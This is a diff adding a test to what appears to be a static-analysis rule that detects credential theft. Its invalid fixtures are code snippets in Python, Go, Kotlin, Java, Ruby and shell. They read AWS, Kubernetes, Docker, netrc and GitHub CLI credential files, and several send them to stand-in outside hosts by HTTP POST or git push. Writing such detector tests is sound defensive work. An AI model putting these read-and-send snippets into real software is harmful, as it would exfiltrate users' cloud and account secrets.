@@ -336,3 +336,71 @@ test('sentinel/credential-access: a leak search over the shell history stays on 
     ] as never,
   });
 });
+
+test('sentinel/credential-access: a store path written as pieces of a join, sent by a client object or a git push to another host', () => {
+  const S = (file: string, ...l: string[]) => ({ folder: 'tidy-notes', files: { [file]: [...l, ''].join('\n') } });
+  ruleTester.run(rule, {
+    valid: [
+      // pieces that make no store: the tool's own config file, a public key
+      S('tools/cfg.py', 'import os', 'p = os.path.join(os.path.expanduser("~"), ".config", "gh", "config.yml")', 'print(open(p).read())'),
+      S('tools/keys.go', 'package main', 'var pub = filepath.Join(home, ".ssh", "id_ed25519.pub")'),
+      // a config file copied and pushed to the user's own repository on a public forge is not a send to a stranger
+      S('bin/save.sh', '#!/bin/sh', 'cp ~/.gitconfig repo/', 'git remote add origin git@github.com:me/dots.git', 'git push origin main'),
+    ],
+    invalid: [
+      // pieces of a join, any language: a read (warning)
+      {
+        ...S('tools/cloud.py', 'import os', 'creds = open(os.path.join(os.path.expanduser("~"), ".aws", "credentials")).read()'),
+        errors: [{ line: 2, messageId: 'read', severity: 'warning', file: 'tools/cloud.py' }],
+      },
+      {
+        ...S('tools/kube.go', 'package main', 'data, _ := os.ReadFile(filepath.Join(home, ".kube", "config"))'),
+        errors: [{ line: 2, messageId: 'read', severity: 'warning', file: 'tools/kube.go' }],
+      },
+      {
+        ...S('tools/reg.py', 'from pathlib import Path', 'auth = (Path.home() / ".docker" / "config.json").read_text()'),
+        errors: [{ line: 2, messageId: 'read', severity: 'warning', file: 'tools/reg.py' }],
+      },
+      {
+        ...S('src/Login.kt', 'val rc = File(System.getProperty("user.home"), ".netrc").readText()'),
+        errors: [{ line: 1, messageId: 'read', severity: 'warning', file: 'src/Login.kt' }],
+      },
+      // … and sent with a client object: Ruby multipart form, OkHttp body, java.net.http POST (error)
+      {
+        ...S(
+          'lib/share.rb',
+          'tok = File.read(File.join(Dir.home, ".config", "gh", "hosts.yml"))',
+          'req = Net::HTTP::Post.new(URI("https://charts.example-share.net/up"))',
+          'req.set_form([["f", tok]], "multipart/form-data")',
+        ),
+        errors: [{ line: 1, messageId: 'readSend', severity: 'error', file: 'lib/share.rb' }],
+      },
+      {
+        ...S(
+          'src/Sync.kt',
+          'val f = File(home, ".aws" + "/credentials")',
+          'val body = f.readText().toRequestBody("text/plain".toMediaType())',
+          'client.newCall(Request.Builder().url(endpoint).post(body).build()).execute()',
+        ),
+        errors: [{ line: 1, messageId: 'readSend', severity: 'error', file: 'src/Sync.kt' }],
+      },
+      {
+        ...S(
+          'src/Up.java',
+          'Path p = Paths.get(home, ".kube", "config");',
+          'var req = HttpRequest.newBuilder(URI.create(url)).POST(BodyPublishers.ofFile(p)).build();',
+        ),
+        errors: [{ line: 1, messageId: 'readSend', severity: 'error', file: 'src/Up.java' }],
+      },
+      // copied into a repository whose remote is on another host, then pushed (error)
+      {
+        ...S('bin/mirror.sh', '#!/bin/bash', 'cp -R ~/.kube/config stash/', 'git remote add m "ssh://u@${HOST}/r.git"', 'git push -q m HEAD'),
+        errors: [{ line: 2, messageId: 'readSend', severity: 'error', file: 'bin/mirror.sh' }],
+      },
+      {
+        ...S('bin/mirror2.sh', '#!/bin/sh', 'cp ~/.docker/config.json .', 'git remote set-url backup git@vault.example-sync.org:me/x.git', 'git push backup'),
+        errors: [{ line: 2, messageId: 'readSend', severity: 'error', file: 'bin/mirror2.sh' }],
+      },
+    ] as never,
+  });
+});
